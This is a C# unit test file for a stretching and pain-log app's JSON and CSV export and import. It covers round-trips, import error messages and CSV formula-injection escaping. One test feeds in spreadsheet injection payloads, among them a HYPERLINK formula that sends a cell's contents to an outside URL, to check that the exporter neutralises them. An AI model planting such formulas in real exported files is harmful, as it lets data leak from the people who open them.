namespace Supple.Data.Tests;

public sealed class ExportFormatTests
{
    private static readonly DateTimeOffset At = new(2026, 3, 2, 8, 0, 0, TimeSpan.Zero);

    private static ExportDocument Sample()
    {
        var session = new ExportedSession(
            Guid.Parse("8d3c7a44-9d4e-4a5e-9a0a-1c2b3d4e5f60"), At, At.AddMinutes(9), new DateOnly(2026, 3, 2), "Europe/London", "built-in",
            "standard", "guided", "stopped-for-pain", 6, 7, "seated-twist", "left", At.AddMinutes(9), "a note, with \"quotes\"\nand a new line",
            [
                new ExportedStretch("shoulder-blade-squeeze", "none", 12, 1, 84, false, false, At.AddMinutes(2)),
                new ExportedStretch("seated-twist", "left", 1, 0, 12, false, true, At.AddMinutes(9)),
            ]);
        var open = new ExportedSession(Guid.Parse("11111111-2222-3333-4444-555555555555"), At.AddDays(1), null, new DateOnly(2026, 3, 3), "Europe/London", "built-in", "gentle", "guided", "abandoned", null, null, null, null, null, null, []);
        var pain = new ExportedPainEntry(Guid.Parse("aaaaaaaa-bbbb-cccc-dddd-eeeeeeeeeeee"), At.AddHours(3), 4, "upper-back", "after, work");
        return new ExportDocument(ExportDocument.FormatName, 1, At.AddDays(2), "Europe/London", [session, open], [pain]);
    }

    [Fact]
    public void Json_round_trips()
    {
        var text = ExportJson.Write(Sample());
        Assert.Equal(text, ExportJson.Write(ExportFile.Parse(text)));
    }

    [Fact]
    public void Csv_round_trips()
    {
        var text = ExportCsv.Write(Sample());
        var back = ExportFile.Parse(text);
        Assert.Equal(ExportJson.Write(Sample()), ExportJson.Write(back));
        Assert.StartsWith("record,id,session,", text, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("=HYPERLINK(\"http://example.org/?\"&A1,\"click\")")]
    [InlineData("+1+1")]
    [InlineData("-2+3")]
    [InlineData("@SUM(A1:A2)")]
    [InlineData("\tleading tab")]
    [InlineData("\rleading carriage return")]
    [InlineData("'=already quoted")]
    [InlineData("'plain apostrophe")]
    public void Csv_cells_a_spreadsheet_would_run_start_with_an_apostrophe_and_still_round_trip(string note)
    {
        var pain = new ExportedPainEntry(Guid.Parse("aaaaaaaa-bbbb-cccc-dddd-eeeeeeeeeeee"), At, 4, null, note);
        var document = new ExportDocument(ExportDocument.FormatName, 1, At.AddDays(2), "Europe/London", [], [pain]);
        var text = ExportCsv.Write(document);

        // Every cell of the pain row, as a spreadsheet reads it: none may start with = + - @ tab or CR.
        var row = text.Split("\r\n")[2];
        var cells = row.Split(',').Select(c => c.Trim('"')).ToList();
        Assert.DoesNotContain(cells, c => c.Length > 0 && "=+-@\t\r".Contains(c[0], StringComparison.Ordinal));
        Assert.Contains(cells, c => c.StartsWith('\'') && c.Length > 1);

        Assert.Equal(note, Assert.Single(ExportFile.Parse(text).PainEntries).Note);
    }

    [Fact]
    public void Malformed_json_names_the_line_and_field()
    {
        var text = ExportJson.Write(Sample()).Replace("\"painBefore\": 6", "\"painBefore\": \"six\"", StringComparison.Ordinal);
        var error = Assert.Throws<ImportFormatException>(() => ExportFile.Parse(text));
        Assert.Contains("sessions[0].painBefore", error.Message, StringComparison.Ordinal);
        Assert.Matches(@"line \d+", error.Message);
    }

    [Fact]
    public void Json_with_an_out_of_range_score_names_the_field()
    {
        var text = ExportJson.Write(Sample()).Replace("\"score\": 4", "\"score\": 40", StringComparison.Ordinal);
        var error = Assert.Throws<ImportFormatException>(() => ExportFile.Parse(text));
        Assert.Contains("painEntries[0].score", error.Message, StringComparison.Ordinal);
    }

    [Fact]
    public void Json_missing_a_required_field_is_rejected()
    {
        var text = ExportJson.Write(Sample()).Replace("\"startedAt\": \"2026-03-03T08:00:00+00:00\",", "", StringComparison.Ordinal);
        var error = Assert.Throws<ImportFormatException>(() => ExportFile.Parse(text));
        Assert.Contains("startedAt", error.Message, StringComparison.OrdinalIgnoreCase);
    }

    [Fact]
    public void Malformed_csv_names_the_line_and_field()
    {
        var lines = ExportCsv.Write(Sample()).Split("\r\n").ToList();
        var painLine = lines.FindIndex(l => l.StartsWith("pain,", StringComparison.Ordinal));
        lines[painLine] = lines[painLine].Replace(",4,upper-back", ",four,upper-back", StringComparison.Ordinal);
        var error = Assert.Throws<ImportFormatException>(() => ExportFile.Parse(string.Join("\r\n", lines)));
        // The session note holds a quoted new line, so the pain row is one physical line further down.
        Assert.Contains($"line {painLine + 2}, field score: 'four' is not a whole number", error.Message, StringComparison.Ordinal);
    }

    [Fact]
    public void Csv_with_an_unknown_area_names_the_field()
    {
        var text = ExportCsv.Write(Sample()).Replace(",upper-back\r\n", ",left-knee\r\n", StringComparison.Ordinal);
        var error = Assert.Throws<ImportFormatException>(() => ExportFile.Parse(text));
        Assert.Contains("painEntries[0].area", error.Message, StringComparison.Ordinal);
    }

    [Fact]
    public void Csv_stretch_rows_must_follow_their_session()
    {
        var lines = ExportCsv.Write(Sample()).Split("\r\n").ToList();
        var text = string.Join("\r\n", lines.Where(l => !l.StartsWith("session,8d3c", StringComparison.Ordinal)));
        var error = Assert.Throws<ImportFormatException>(() => ExportFile.Parse(text));
        Assert.Contains("field session", error.Message, StringComparison.Ordinal);
    }
}
